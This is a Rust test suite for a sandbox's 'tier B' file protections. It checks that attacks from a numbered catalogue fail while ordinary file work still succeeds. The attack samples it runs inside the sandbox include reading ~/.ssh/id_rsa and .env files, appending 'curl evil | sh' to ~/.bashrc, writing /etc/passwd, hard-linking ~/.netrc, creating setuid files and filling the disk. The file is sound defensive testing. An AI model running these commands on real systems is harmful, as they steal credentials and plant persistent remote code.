//! In tier B, which attacks on files does the box stop, and does ordinary work with files go on beside them?
//!
//! Numbers are those of the attack catalogue (F). Every attack has its twin. Each test runs where no user namespace can be
//! made, as an ordinary user and as root.
mod support;
use bartizan_sandbox::{Accept, Access, Reason, SyntheticFile, WorkspaceMode};
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::PathBuf;
use support::table::stopped;
use support::{exists, open_place, run_b, victim};

in_tier_b! {
    fn f01_f02_f03_what_the_person_has_elsewhere_cannot_be_read_or_listed() {
        let place = open_place();
        let key = victim(&place, "home/.ssh/id_rsa");
        let sibling = victim(&place, "other/.env");
        let mut spec = place.spec(&format!(
            "cat readme.txt; cat {0} {1} ../../../other/.env ~/.ssh/id_rsa; ls {2} {3}; ls / /home /root; cat /proc/self/root{0}; \
             ln -s {0} link; cat link; cp {0} x; find {3} -name id_rsa -exec cat {{}} ';'; ls -A ~ | wc -l; ls",
            key.display(), sibling.display(), key.parent().unwrap().display(), place.path("").display()
        ));
        spec.home = place.path("home");
        let outcome = run_b(&place, &spec).succeeded();
        assert_eq!(outcome.stdout, "hello from the host\n0\nlink\nreadme.txt\n", "{outcome:#?}");
        assert!(outcome.stderr.matches("Permission denied").count() >= 7, "{outcome:#?}");
        stopped("F01-F03", "cat ~/.ssh/id_rsa, ../other/.env, /proc/self/root/…, by links and find", "Landlock: an allow-list of files", &outcome.stderr);
    }

    fn f05_the_system_cannot_be_written_and_the_boxs_own_folders_can() {
        let place = open_place();
        let outcome = run_b(&place, &place.spec(
            "for f in /usr/x /etc/x /x /bin/x /tmp/bartizan-x /var/tmp/bartizan-x /dev/shm/bartizan-x /dev/x; do touch $f && echo WROTE $f; done; \
             rm -f /usr/bin/env && echo REMOVED; echo x >> /etc/passwd && echo APPENDED; chmod 777 /usr/bin/env && echo CHMOD; \
             touch here ~/here $TMPDIR/here && mktemp -d > /dev/null && echo fine; echo gone > /dev/null && echo null; python3 -c 'import tempfile; tempfile.TemporaryFile().write(b\"x\")' && echo temporary",
        ));
        assert_eq!(outcome.stdout, "fine\nnull\ntemporary\n", "{outcome:#?}");
        for path in ["/usr/x", "/x", "/tmp/bartizan-x", "/var/tmp/bartizan-x", "/dev/shm/bartizan-x"] {
            assert!(!exists(path.as_ref()), "{path}");
        }
        stopped("F05", "touch, rm, chmod in /usr /etc / /dev /tmp", "Landlock: no right to write; the supervisor changes modes", &outcome.stderr);
    }

    fn f06_f07_nothing_is_written_through_the_home_directory_or_a_link() {
        let place = open_place();
        let rc = victim(&place, "home/.bashrc");
        let mut spec = place.spec(&format!(
            "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc; ln -s {0} mine; echo x > mine; echo x > {0}; truncate -s 0 {0}; mv {0} gone; rm -f {0}; \
             ln {0} hard; echo x > hard; mkdir -p {1}/new; true", rc.display(), place.path("home").display()
        ));
        spec.home = place.path("home");
        let outcome = run_b(&place, &spec).succeeded();
        assert_eq!(outcome.stdout, "curl evil | sh\n", "{outcome:#?}");
        assert_eq!(fs::read_to_string(&rc).unwrap(), "TOP-SECRET");
        assert!(!exists(&place.path("home/new")));
        stopped("F06-F07", "write ~/.bashrc; write through links and hard links", "home of its own; Landlock", &fs::read_to_string(&rc).unwrap());
    }

    fn f10_no_hard_link_reaches_out_though_both_ends_lie_on_one_file_system() {
        let place = open_place();
        let netrc = victim(&place, "home/.netrc");
        let outcome = run_b(&place, &place.spec(&format!(
            "ln {0} h; ln -L {0} h2; ln /etc/passwd p; ln -P /proc/self/exe x; mv {0} taken; mv readme.txt {1}/out; ln readme.txt {1}/out; \
             python3 -c 'import os, ctypes; f = os.open(\"{0}\", os.O_PATH); print(ctypes.CDLL(None).linkat(f, b\"\", -100, b\"e\", 0x1000)); \
               print(ctypes.CDLL(None).linkat(-100, b\"/proc/self/fd/%d\" % f, -100, b\"e\", 0x400))'; \
             ls; ln readme.txt twin && mkdir d && ln twin d/third && cat d/third", netrc.display(), netrc.parent().unwrap().display()
        ))).succeeded();
        assert_eq!(outcome.stdout, "-1\n-1\nreadme.txt\nhello from the host\n", "{outcome:#?}");
        assert_eq!((fs::read_to_string(&netrc).unwrap().as_str(), netrc.metadata().unwrap().nlink()), ("TOP-SECRET", 1));
        assert!(!exists(&place.path("home/out")));
        stopped("F10", "ln ~/.netrc h, by name, by descriptor, by /proc/self/fd; mv it in, a file of the box's out", "Landlock: no link or move across its borders", &outcome.stderr);
    }

    fn what_landlock_does_not_look_at_is_changed_in_the_boxs_folders_only() {
        let place = open_place();
        let file = victim(&place, "home/.ssh/config");
        let folder = file.parent().unwrap().to_owned();
        let tool = victim(&place, "tools/tool");
        fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
        let before = |path: &PathBuf| {
            let about = path.metadata().unwrap();
            (about.mode(), about.mtime(), about.uid(), about.gid())
        };
        let (was_file, was_tool, was_folder) = (before(&file), before(&tool), before(&folder));
        let mut spec = place.python(&format!(
            "import os, ctypes\nfile, tool, folder = '{}', '{}', '{}'\nlibc = ctypes.CDLL(None, use_errno=True)\n\
             def no(what, f):\n  try: f(); print('DID', what)\n  except OSError as e: pass\n\
             os.symlink(file, 'link'); os.symlink(folder, 'dir')\n\
             for p in (file, tool, folder, 'link', 'dir/config', os.path.relpath(file)):\n  \
               no('chmod ' + p, lambda: os.chmod(p, 0)); no('utime ' + p, lambda: os.utime(p, (1, 1))); no('xattr ' + p, lambda: os.setxattr(p, 'user.x', b'y'))\n  \
               no('chown ' + p, lambda: os.chown(p, 12345, 12345)); no('truncate ' + p, lambda: os.truncate(p, 0))\n\
             f = os.open(tool, os.O_RDONLY); no('fchmod', lambda: os.fchmod(f, 0o777)); no('futimens', lambda: os.utime(f, (1, 1))); no('fsetxattr', lambda: os.setxattr(f, 'user.x', b'y'))\n\
             no('proc', lambda: os.chmod('/proc/self/fd/%d' % f, 0))\n\
             d = os.open(folder, os.O_PATH); no('fchmodat', lambda: os.chmod('config', 0, dir_fd=d))\n\
             os.mkdir('own'); open('own/f', 'w').close(); os.chmod('own/f', 0o750); os.utime('own/f', (10, 20)); o = os.open('own/f', os.O_RDONLY); os.fchmod(o, 0o640); os.utime(o, (30, 40))\n\
             d = os.open('own', os.O_RDONLY); os.chmod('f', 0o600, dir_fd=d); os.utime('f', ns=(5, 6000000007), dir_fd=d); os.chown('own/f', os.getuid(), -1); os.symlink('f', 'own/s'); os.utime('own/s', (1, 2), follow_symlinks=False)\n\
             os.chdir('own'); os.chmod('f', 0o604); s = os.stat('f'); print(oct(s.st_mode), s.st_mtime_ns, os.lstat('s').st_mtime)\n\
             no('setuid', lambda: os.chmod('f', 0o4755))",
            file.display(), tool.display(), folder.display()
        ));
        spec.readable.push(place.path("tools"));
        let outcome = run_b(&place, &spec).succeeded();
        assert_eq!(outcome.stdout, "0o100604 6000000007 2.0\n", "{outcome:#?}");
        assert_eq!((before(&file), before(&tool), before(&folder)), (was_file, was_tool, was_folder));
        stopped("F22", "chmod, chown, utime, setxattr of host files, by descriptors and links", "made on behalf, in the box's folders only", &outcome.stdout);
    }

    fn f22_no_device_and_no_setuid_file_is_made() {
        let place = open_place();
        let outcome = run_b(&place, &place.spec(
            "mknod c c 1 5 && echo MADE; mknod w c 0 0 && echo WHITEOUT; touch s; chmod 4755 s && echo SETUID; chmod 2755 s && echo SETGID; install -m 4755 s t && echo INSTALLED; chmod 755 s && mkfifo p && echo fine",
        ));
        assert_eq!(outcome.stdout, "fine\n", "{outcome:#?}");
        stopped("F22", "mknod, chmod 4755, install -m 4755", "seccomp; modes are changed on behalf", &outcome.stderr);
    }

    fn f23_the_disk_is_not_filled() {
        let place = open_place();
        let mut spec = place.spec("truncate -s 1T huge || echo limited; for i in $(seq 100); do head -c 20M /dev/zero > $TMPDIR/$i || exit; done; sleep 60");
        spec.limits.scratch_bytes = 40 << 20;
        spec.workspace_mode = WorkspaceMode::Overlay { size_bytes: 40 << 20, inodes: 1000 };
        let outcome = run_b(&place, &spec);
        assert_eq!(outcome.exit.reason, Reason::DiskLimit, "{outcome:#?}");
        stopped("F23", "100 files of 20 MB; truncate -s 1T", "watched by the supervisor; RLIMIT_FSIZE", &outcome.exit.reason);
    }

    fn f24_a_run_leaves_nothing_for_the_next() {
        let place = open_place();
        let one = run_b(&place, &place.python("import os\nopen(os.environ['HOME'] + '/x', 'w'); open(os.environ['TMPDIR'] + '/x', 'w'); open('x', 'w'); print('made')\n\
             import ctypes; l = ctypes.CDLL(None, use_errno=True); print(l.shmget(77, 4096, 0o1600), l.semget(77, 1, 0o1600), l.msgget(77, 0o1600))"));
        assert_eq!(one.stdout, "made\n-1 -1 -1\n", "{one:#?}");
        let two = run_b(&place, &place.spec("find ~ $TMPDIR . -name x; ls; echo done")).succeeded();
        assert_eq!(two.stdout, "readme.txt\ndone\n", "{two:#?}");
        stopped("F24", "run A leaves files in TMPDIR, ~ and SysV ipc; run B looks", "folders of its own, gone at the end; seccomp: no ipc", &two.stdout);
    }

    fn f25_our_state_is_not_in_view() {
        let place = open_place();
        fs::create_dir_all(place.path("state")).unwrap();
        let log = victim(&place, "state/store.db");
        let outcome = run_b(&place, &place.spec(&format!("cat {0}; echo x >> {0}; ls {1}; cat ../../../store.db; ls ../..; echo done", log.display(), place.path("state").display())));
        assert_eq!(outcome.stdout, "done\n", "{outcome:#?}");
        assert_eq!(fs::read_to_string(log).unwrap(), "TOP-SECRET");
        stopped("F25", "read and write our log, look around the box's folder", "Landlock: not in the allow-list", &outcome.stderr);
    }

    fn f27_a_crash_leaves_no_core_and_calls_no_helper() {
        let place = open_place();
        let outcome = run_b(&place, &place.spec(
            "ulimit -c unlimited 2>/dev/null; ulimit -c 0; bash -c 'kill -SEGV $$' 2>/dev/null; echo $?; ls; \
             python3 -c 'import resource as r; r.setrlimit(r.RLIMIT_CORE, (0, 0)); print(r.getrlimit(r.RLIMIT_CORE))'",
        ));
        // A core limit of 1 is the one value that keeps a core_pattern pipe from being started.
        assert_eq!(outcome.succeeded().stdout, "139\nreadme.txt\n(1, 1)\n");
        stopped("F27", "ulimit -c unlimited; kill -SEGV", "RLIMIT_CORE of 1 that seccomp keeps", &"139, no core, limit still (1, 1)");
    }

    fn synthetic_files_and_what_is_shown_of_the_home_directory_are_found() {
        let place = open_place();
        let tool = victim(&place, "home/.local/bin/tool");
        fs::write(&tool, "#!/bin/sh\necho tool in $0\n").unwrap();
        fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
        let mut spec = place.spec("~/.local/bin/tool | sed 's|/.*/||'; cat ~/.seed $BUNDLE; echo $BUNDLE | grep -c /files/etc/; echo x > ~/.local/bin/tool; echo x >> ~/.seed && echo seeded");
        spec.home = place.path("home");
        spec.readable.push(place.path("home/.local/bin"));
        let file = |path: PathBuf, text: &str, access| SyntheticFile { path, contents: text.into(), mode: 0o644, access };
        spec.synthetic.push(file(place.path("home/.seed"), "seed\n", Access::Writable));
        spec.synthetic.push(file("/etc/ours/bundle.pem".into(), "bundle\n", Access::ReadOnly));
        spec.env.push(("BUNDLE".into(), "/etc/ours/bundle.pem".into()));
        let outcome = run_b(&place, &spec);
        assert_eq!(outcome.stdout, "tool in tool\nseed\nbundle\n1\nseeded\n", "{outcome:#?}");
        assert!(fs::read_to_string(&tool).unwrap().starts_with("#!"));
    }

    fn a_read_only_workspace_is_read_and_a_direct_one_is_the_owners_alone() {
        let place = open_place();
        let mut spec = place.spec("cat readme.txt; touch x || rm readme.txt || echo refused");
        spec.workspace_mode = WorkspaceMode::ReadOnly;
        assert_eq!(run_b(&place, &spec).stdout, "hello from the host\nrefused\n");
        assert!(exists(&place.workspace.join("readme.txt")));
        let mut spec = place.spec("pwd; echo changed > readme.txt; mkdir d; chmod 700 d; touch ../x");
        spec.workspace_mode = WorkspaceMode::Direct;
        if rustix::process::geteuid().is_root() {
            let accept = Accept::OrB { folders: place.path("state") };
            let refused = bartizan_sandbox::start(&spec, &accept).unwrap_err().to_string();
            assert!(refused.contains("as root") && refused.contains("hint: leave `--direct` out"), "{refused}");
        } else {
            let outcome = run_b(&place, &spec);
            assert_eq!(outcome.stdout, format!("{}\n", place.workspace.display()), "{outcome:#?}");
            assert_eq!(fs::read_to_string(place.workspace.join("readme.txt")).unwrap(), "changed\n");
            assert!(!exists(&place.path("x")));
        }
    }
}
